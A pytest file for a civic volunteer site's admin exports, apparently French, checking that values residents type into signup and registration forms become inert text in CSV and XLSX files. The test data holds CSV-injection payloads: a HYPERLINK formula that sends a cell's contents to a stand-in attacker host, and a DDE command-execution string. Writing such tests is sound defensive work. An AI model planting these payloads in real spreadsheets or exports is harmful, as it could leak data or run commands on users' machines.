"""What the public typed is never a formula in the town hall's spreadsheets (CSV injection)."""

import csv
import io

import openpyxl
import pytest
from wagtail_modeladmin.helpers import AdminURLHelper

from tests import factories
from tests.builders import SIGNUP, make_actions
from wagtail_heurecivique.admin.spreadsheets import neutralise
from wagtail_heurecivique.models import Registration, Volunteer

HYPERLINK = '=HYPERLINK("https://pirate.example/?d="&A2,"Cliquez ici")'
#: What a resident may type in the signup form's free fields, and what the CSV cell must hold.
TYPED = {
    "first_name": (HYPERLINK, "'" + HYPERLINK),
    "last_name": ("=1+1", "'=1+1"),
    "neighbourhood": ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    "email": ("-2+3@example.org", "'-2+3@example.org"),  # a valid address, and a formula
}


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"),
        ("Inès", "Inès"), ("1+1", "1+1"), (" =1+1", " =1+1"), ("", ""),
        (-3, -3), (2.5, 2.5), (None, None),  # numbers stay numbers
    ],
)
def test_text_starting_like_a_formula_gets_a_leading_apostrophe(value, expected):
    assert neutralise(value) == expected


def rows_of(response):
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.django_db
def test_formulas_typed_into_the_signup_form_are_text_in_the_exports(client, site_pages, referent_a, commit):
    data = {**SIGNUP, **{name: typed for name, (typed, _cell) in TYPED.items()}}
    assert commit(client.post, site_pages["signup"].url, data).status_code == 200
    volunteer = Volunteer.objects.get()
    assert (volunteer.first_name, volunteer.last_name) == (HYPERLINK, "=1+1")  # kept as typed
    factories.volunteer(volunteer.commune, first_name="Paul", last_name="Martin", neighbourhood="Centre")
    client.force_login(referent_a)
    url = AdminURLHelper(Volunteer).index_url

    rows = {row["Adresse e-mail"]: row for row in rows_of(client.get(url, {"export": "csv"}))}
    typed = rows["'-2+3@example.org"]
    assert [typed["Prénom"], typed["Nom"], typed["Quartier"]] == [cell for name, (_t, cell) in TYPED.items()
                                                                 if name != "email"]
    paul = next(row for row in rows.values() if row["Prénom"] == "Paul")
    assert (paul["Nom"], paul["Quartier"]) == ("Martin", "Centre")  # the rest untouched

    # XLSX keeps what was typed, in text cells: no formula for the spreadsheet to run.
    response = client.get(url, {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    header = [cell.value for cell in sheet[1]]
    [row] = [row for row in sheet.iter_rows(min_row=2) if row[header.index("Nom")].value == "=1+1"]
    for column, name in (("Prénom", "first_name"), ("Nom", "last_name"), ("Quartier", "neighbourhood"),
                         ("Adresse e-mail", "email")):
        cell = row[header.index(column)]
        assert (cell.value, cell.data_type) == (TYPED[name][0], "s"), column


@pytest.mark.django_db
def test_a_formula_typed_into_an_action_registration_is_text_in_its_export(client, commune_a, referent_a):
    _index, [action] = make_actions(commune_a)
    Registration.objects.create(action=action, commune=commune_a, first_name="+CMD|' /C calc'!A0", email="r@example.org")
    client.force_login(referent_a)
    [row] = rows_of(client.get(AdminURLHelper(Registration).index_url, {"export": "csv"}))
    assert row["Prénom"] == "'+CMD|' /C calc'!A0"
